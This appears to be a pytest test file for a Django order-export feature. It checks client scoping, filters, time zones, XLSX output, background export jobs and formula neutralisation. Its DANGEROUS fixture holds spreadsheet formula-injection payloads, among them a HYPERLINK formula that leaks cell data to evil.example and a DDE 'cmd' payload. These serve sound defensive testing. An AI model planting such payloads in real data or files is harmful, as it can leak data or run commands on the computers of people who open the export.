"""The queue's export (orders/admin_exports.py, orders/services/exports.py): only the user's
clients' orders, the queue's filters, human labels, the client's time zone, an order-lines
export, XLSX on request, large exports through a background job, and every text cell that a
spreadsheet would run as a formula neutralised, in CSV and in XLSX."""

from __future__ import annotations

import io
from datetime import UTC, datetime

import openpyxl
import pytest
from django.urls import reverse
from django_q.conf import Conf

from clients.models import Membership
from orders import services
from orders.models import ExportJob, Order
from orders.resources import neutralise_formula
from orders.services import exports
from tests.orders.import_files import read_csv

pytestmark = pytest.mark.django_db

EXPORT_URL = "admin:orders_order_export"
HEADERS = [c.header for c in exports.ORDER_COLUMNS]

# (customer name in the database, what the export must show)
DANGEROUS = [
    (
        '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    ),
    ("+SUM(1,2)", "'+SUM(1,2)"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Ann = Bob + Co", "Ann = Bob + Co"),  # a trigger inside the text is harmless
]


@pytest.fixture
def orders(make_client, make_warehouse, make_product, make_customer, make_order):
    acme, nord = make_client("ACME"), make_client("NORD")
    east = make_warehouse("EAST")
    lamp = make_product(acme, "LAMP", stock={east: 50})
    nord_lamp = make_product(nord, "NLAMP", stock={east: 5})
    made = {}
    for i, (name, _) in enumerate(DANGEROUS):
        customer = make_customer(acme, name=name, email=f"c{i}@example.com")
        made[name] = make_order(acme, [(lamp, 1)], number=f"A-{i}", customer=customer)
    formula_number = make_order(
        acme,
        [(lamp, 1)],
        number="=1+2",
        customer=make_customer(acme, name="Number Trick", email="=cmd@example.com"),
    )
    Order.objects.filter(pk=formula_number.pk).update(
        delay_reason="-carrier late", ship_to_city="@Town", ship_to_name="+Rick"
    )
    make_order(nord, [(nord_lamp, 1)], number="N-1", customer=make_customer(nord, name="Nord Co"))
    return acme, nord


def post_export(client, file_format: str = "csv", query: str = "", kind: str = "orders"):
    return client.post(
        reverse(EXPORT_URL), {"kind": kind, "file_format": file_format, "filters": query}
    )


def by_number(rows):
    return {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}


def test_the_export_form_defaults_to_csv_and_carries_the_queue_filters(orders, make_user, client):
    acme, _ = orders
    client.force_login(make_user(clients=[acme], role=Membership.Role.AGENT))

    response = client.get(reverse(EXPORT_URL) + "?queue=all&status__exact=ready")

    assert response.status_code == 200
    form = response.context["form"]
    assert form["file_format"].value() == "csv"
    assert form["kind"].value() == "orders"
    assert form["filters"].value() == "queue=all&status__exact=ready"
    queue = client.get(reverse("admin:orders_order_changelist") + "?queue=all")
    assert 'id="export-queue"' in queue.content.decode()


def test_csv_export_has_labels_client_time_and_only_the_users_clients(orders, make_user, client):
    acme, _ = orders
    acme.timezone = "America/New_York"
    acme.save(update_fields=["timezone"])
    order = Order.objects.get(number="A-0")
    Order.objects.filter(pk=order.pk).update(
        placed_at=datetime(2026, 1, 15, 14, 30, tzinfo=UTC), expedite=True
    )
    services.order_hold(order=Order.objects.get(number="A-1"), hold_type="payment")
    client.force_login(make_user(clients=[acme], role=Membership.Role.AGENT))

    response = post_export(client)

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="orders-')
    assert response.content.startswith(b"\xef\xbb\xbf")  # a BOM: Excel reads UTF-8
    rows = read_csv(response.content)
    assert rows[0] == HEADERS
    found = by_number(rows)
    assert set(found) == {f"A-{i}" for i in range(len(DANGEROUS))} | {"'=1+2"}
    assert {r["Client"] for r in found.values()} == {"ACME"}
    first = found["A-0"]
    assert first["Status"] == "Ready to pick"
    assert first["Segment"] in dict(Order.Segment.choices).values()
    assert first["Expedited"] == "Yes"
    assert found["A-2"]["Expedited"] == "No"
    assert first["Carrier exception"] == "No"
    assert first["Placed (client time)"] == "2026-01-15 09:30"  # 14:30 UTC in New York
    assert first["Time zone"] == "America/New_York"
    assert first["Service"] == "Standard"
    assert (found["A-1"]["Status"], found["A-1"]["Hold reason"]) == ("On hold", "Payment")
    for i, (_, shown) in enumerate(DANGEROUS):
        assert found[f"A-{i}"]["Customer"] == shown
    trick = found["'=1+2"]
    assert (
        trick["Customer"],
        trick["Customer e-mail"],
        trick["Delay reason"],
        trick["Ship-to city"],
        trick["Ship-to name"],
    ) == ("Number Trick", "'=cmd@example.com", "'-carrier late", "'@Town", "'+Rick")
    assert b"Nord Co" not in response.content and b"N-1" not in response.content


def test_lines_export_has_one_row_per_line(orders, make_user, client):
    acme, _ = orders
    client.force_login(make_user(clients=[acme], role=Membership.Role.AGENT))

    rows = read_csv(post_export(client, kind="lines", query="queue=all").content)

    assert rows[0] == [c.header for c in exports.LINE_COLUMNS]
    line = {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}["A-0"]
    assert (line["SKU"], line["Ordered"], line["Allocated"], line["Order status"]) == (
        "LAMP",
        "1",
        "1",
        "Ready to pick",
    )
    assert len(rows) - 1 == len(DANGEROUS) + 1
    assert all(r[1] == "ACME" for r in rows[1:])


def test_xlsx_export_on_request_has_labels_and_no_formula_cells(orders, make_user, client):
    acme, _ = orders
    client.force_login(make_user(clients=[acme], role=Membership.Role.SUPERVISOR))

    response = post_export(client, "xlsx")

    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert rows[0] == HEADERS
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    found = {row[0]: dict(zip(HEADERS, row, strict=True)) for row in rows[1:]}
    assert set(found) == {f"A-{i}" for i in range(len(DANGEROUS))} | {"'=1+2"}
    for i, (_, shown) in enumerate(DANGEROUS):
        # XML reads a bare CR back as LF; the apostrophe in front is what matters
        assert found[f"A-{i}"]["Customer"] == shown.replace("\r", "\n")
    assert found["A-0"]["Status"] == "Ready to pick"
    assert found["A-0"]["Priority"] == Order.objects.get(number="A-0").priority_score


def test_export_of_a_user_with_another_client_shows_only_that_client(orders, make_user, client):
    _, nord = orders
    client.force_login(make_user(clients=[nord], role=Membership.Role.AGENT))

    rows = read_csv(post_export(client).content)

    assert [(r[0], r[1], r[2]) for r in rows[1:]] == [("N-1", "NORD", "Nord Co")]


def test_export_follows_the_queue_filter(orders, make_user, client):
    acme, _ = orders
    services.order_cancel(order=Order.objects.get(number="A-1"), reason="test")
    client.force_login(make_user(clients=[acme], role=Membership.Role.AGENT))

    open_only = {r[0] for r in read_csv(post_export(client).content)[1:]}
    everything = {r[0] for r in read_csv(post_export(client, query="queue=all").content)[1:]}
    searched = {r[0] for r in read_csv(post_export(client, query="queue=all&q=A-1").content)[1:]}

    assert "A-1" not in open_only
    assert everything - open_only == {"A-1"}
    assert searched == {"A-1"}


def test_empty_queue_and_missing_format_say_so(orders, make_user, client):
    acme, _ = orders
    client.force_login(make_user(clients=[acme], role=Membership.Role.AGENT))

    empty = post_export(client, query="queue=on_hold")
    assert empty.status_code == 200
    assert "nothing to export" in empty.content.decode()
    no_format = client.post(reverse(EXPORT_URL), {"kind": "orders", "filters": ""})
    assert no_format.status_code == 200
    assert no_format.context["form"].errors == {"file_format": ["This field is required."]}


def test_large_export_runs_as_a_job_with_progress_for_its_user_only(
    orders, make_user, client, monkeypatch, django_capture_on_commit_callbacks
):
    acme, _ = orders
    monkeypatch.setattr(exports, "INLINE_MAX_ORDERS", 2)
    monkeypatch.setattr(Conf, "SYNC", True)
    user = make_user(clients=[acme], role=Membership.Role.AGENT)
    client.force_login(user)

    with django_capture_on_commit_callbacks() as queued:
        response = post_export(client, query="queue=all")

    job = ExportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("admin:orders_exportjob_page", args=[job.pk])
    assert (job.status, job.total_orders, len(queued)) == ("queued", 8, 1)
    page = client.get(reverse("admin:orders_exportjob_page", args=[job.pk])).content.decode()
    assert 'data-running="1"' in page
    queued[0]()  # the django-q worker runs orders.tasks.run_export
    job.refresh_from_db()
    assert (job.status, job.done_orders, job.total_orders) == ("done", 8, 8)
    status = client.get(reverse("admin:orders_exportjob_status", args=[job.pk])).json()
    assert (status["percent"], status["finished"]) == (100, True)
    page = client.get(reverse("admin:orders_exportjob_page", args=[job.pk])).content.decode()
    assert 'id="export-download"' in page
    download = client.get(reverse("admin:orders_exportjob_download", args=[job.pk]))
    rows = read_csv(b"".join(download.streaming_content))
    assert rows[0] == HEADERS and len(rows) == 9

    client.force_login(make_user(clients=[acme], role=Membership.Role.AGENT))
    for name in ("page", "status", "download"):
        url = reverse(f"admin:orders_exportjob_{name}", args=[job.pk])
        assert client.get(url).status_code == 404


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("x=1", "x=1"),
        ("", ""),
        (" =1", " =1"),
        (-5, -5),
        (None, None),
    ],
)
def test_neutralise_formula(value, expected):
    assert neutralise_formula(value) == expected
